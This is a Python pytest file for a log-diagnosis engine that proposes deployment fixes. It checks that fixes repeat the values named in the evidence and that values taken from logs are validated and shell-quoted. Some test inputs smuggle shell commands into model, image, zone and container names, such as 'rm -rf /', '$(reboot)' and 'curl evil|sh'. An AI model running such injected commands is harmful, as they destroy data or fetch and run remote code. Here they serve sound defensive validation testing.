"""A fix names what the evidence names: where a log line names the repository, image, zone, accelerator
type, node, host, port, secret or requested model an error is about, the fix says that value, never the
deployment's own one beside it; values from logs are checked by their kind before a fix says them, and
shell-quoted inside a command (ops/diagnosis/evidence.py, docs/diagnosis.md)."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from ops.diagnosis.engine import diagnose
from ops.diagnosis.evidence import DEPLOYMENT_FIELDS, KINDS, checked, named_fields
from ops.diagnosis.families import FixFacts, catalogue, figures, fill
from tests.cases import case_text

TABLE = Path(__file__).parents[1] / "fixtures" / "diagnose_cases.yaml"
# A deployment no log names: every value of it that shows up beside a value the evidence named is a
# contradiction.
CONTRARY = FixFacts(
    model="acme/contrary-model",
    image="registry.example/contrary/vllm:v0",
    accelerator_type="v99x-4096",
    zone="antarctica-south1-z",
    name="contrary-qr",
    tensor_parallel_size=4,
    max_model_len=16384,
)
_GROUP = re.compile(r"\(\?P<(\w+)>")


def _table() -> tuple[dict[str, Any], list[dict[str, Any]]]:
    data = yaml.safe_load(TABLE.read_text())
    return data["deployment"], list(data["cases"])


def _text(case: dict[str, Any]) -> str:
    return case_text(case["file"]) if "file" in case else str(case["text"])


def _facts(raw: dict[str, Any]) -> FixFacts:
    return FixFacts(**{k: tuple(v) if k == "flags" else v for k, v in raw.items()})


def _states(family_fix_when: Any) -> tuple[str | None, ...]:
    return (None, *family_fix_when)


def test_no_fix_says_a_deployment_value_the_evidence_contradicts() -> None:
    """Every case of the diagnosis table against a deployment unlike any log: for each family found and
    each queued-resource state it has a fix for, a field the evidence named (valid or not) never shows
    the deployment's value, in the conclusion or the fix."""
    checked_fields = 0
    for case in _table()[1]:
        for match in catalogue().match(_text(case)):
            named = named_fields(match.values)
            if not named:
                continue
            for state in _states(match.family.fix_when):
                facts = FixFacts(**{**CONTRARY.__dict__, "state": state})
                values = figures(match.values, facts)
                said = fill(match.family.conclusion, values) + " " + fill(match.family.fix_for(state), values)
                for name in named:
                    checked_fields += 1
                    deployment = getattr(CONTRARY, name)
                    assert deployment not in said, f"{case.get('label') or case.get('file')}: {name}: {said}"
    assert checked_fields >= 30


def test_the_fix_says_the_evidence_value_where_its_template_names_the_field() -> None:
    """Through the engine, with the table's own deployments: when the finding's line named a deployment
    field validly and its fix template uses that field, the fix says the evidence's value."""
    default, cases = _table()
    seen = 0
    for case in cases:
        facts = _facts(case.get("deployment") or default)
        findings = diagnose(_text(case), facts).findings
        if not findings:
            continue
        top = findings[0]
        template = catalogue()[top.name].fix_for(facts.state)
        for name in DEPLOYMENT_FIELDS:
            if name in top.values and "{" + name + "}" in template:
                seen += 1
                assert top.values[name] in top.fix, (
                    f"{case.get('label')}: {name}={top.values[name]}: {top.fix}"
                )
    assert seen >= 15


def _captured_fields() -> set[tuple[str, str]]:
    """(family, field) for every KINDS field a built-in family's wordings capture."""
    return {
        (family.name, group)
        for family in catalogue().families
        if family.origin == "built-in"
        for pattern in family.patterns
        for group in _GROUP.findall(pattern.pattern)
        if group in KINDS and group not in ("image_tag", "image_registry")
    }


def test_every_captured_field_has_a_case_where_the_evidence_differs_from_the_deployment() -> None:
    """Each (family, field) the catalogue captures is scored by at least one case of the table whose
    line names a value other than the deployment's (fields the deployment lacks: any value)."""
    default, cases = _table()
    covered: set[tuple[str, str]] = set()
    for case in cases:
        raw = case.get("deployment") or default
        findings = diagnose(_text(case), _facts(raw)).findings
        for finding in findings[:1]:
            for name, value in finding.values.items():
                if name in KINDS and raw.get(name) != value:
                    covered.add((finding.name, name))
    missing = sorted(_captured_fields() - covered)
    assert not missing, f"no table case names another value for: {missing}"


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("model", "google/gemma-4-31B-it"),
        ("model", "gpt2"),
        ("model", "/mnt/models/gemma-4-31B-it"),
        ("image", "vllm/vllm-tpu:gemma4"),
        ("image", "us-docker.pkg.dev/p/serving/vllm-tpu@sha256:" + "a" * 64),
        ("zone", "us-east5-a"),
        ("accelerator_type", "v5litepod-16"),
        ("node", "gemma4-qr-node"),
        ("host", "10.130.0.7"),
        ("host", "tpu-b.internal.example"),
        ("port", "8000"),
        ("secret", "hf-token"),
        ("requested_model", "gemma-4"),
        ("container", "vllm"),
        ("container", "vllm-gemma4.v2_b"),
    ],
)
def test_valid_values_pass_their_kind(kind: str, value: str) -> None:
    assert KINDS[kind](value)


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("model", "google/x;rm -rf /"),
        ("model", "google/x$(reboot)"),
        ("model", "a--b/c"),
        ("model", "google/gemma."),
        ("model", "/models/../etc"),
        ("model", "relative/dir/model"),
        ("model", "datasets/squad"),
        ("image", "vllm/vllm-tpu:$(reboot)"),
        ("image", "Vllm/Upper:tag"),
        ("image", "a`b`"),
        ("zone", "us-east5-a; ls"),
        ("zone", "europe-west4"),
        ("accelerator_type", "v6e-8'"),
        ("node", "<node-name>"),
        ("host", "host name"),
        ("port", "70000"),
        ("port", "0"),
        ("secret", "hf token"),
        ("requested_model", "x' OR '1"),
        ("container", "-rf"),
        ("container", "vllm;reboot"),
        ("container", "v"),
    ],
)
def test_hostile_or_malformed_values_fail_their_kind(kind: str, value: str) -> None:
    assert not KINDS[kind](value)


def test_checked_joins_the_parts_of_a_registry_url_into_the_image_docker_names() -> None:
    hub = {"image_registry": "registry-1.docker.io", "image": "library/python", "image_tag": "3.12-slim"}
    assert checked(hub) == {"image": "python:3.12-slim"}
    registry = {"image_registry": "us-docker.pkg.dev", "image": "p/serving/vllm-tpu", "image_tag": "v1"}
    assert checked(registry) == {"image": "us-docker.pkg.dev/p/serving/vllm-tpu:v1"}
    assert checked({"image": "vllm/vllm-tpu", "image_tag": "$(x)"}) == {"image": "vllm/vllm-tpu"}
    assert checked({"model": "google/x;rm", "need": "8G"}) == {"need": "8G"}


def test_an_invalid_value_drops_the_deployment_value_of_its_field_too() -> None:
    values = figures({"model": "google/x;curl evil|sh"}, CONTRARY)
    assert "model" not in values and values["qr_name"] == "contrary-qr"
    valid = figures({"accelerator_type": "v5litepod-4"}, CONTRARY)
    assert (valid["accelerator_type"], valid["chips"]) == ("v5litepod-4", "4")


def test_fill_quotes_values_inside_a_code_span_and_reads_the_template_once() -> None:
    template = "run `gcloud secrets create {secret}` for[ {secret}], not {other}"
    assert (
        fill(template, {"secret": "a b", "other": "{secret}"})
        == "run `gcloud secrets create 'a b'` for a b, not {secret}"
    )
    assert fill("[`x {a}`]", {}) == ""
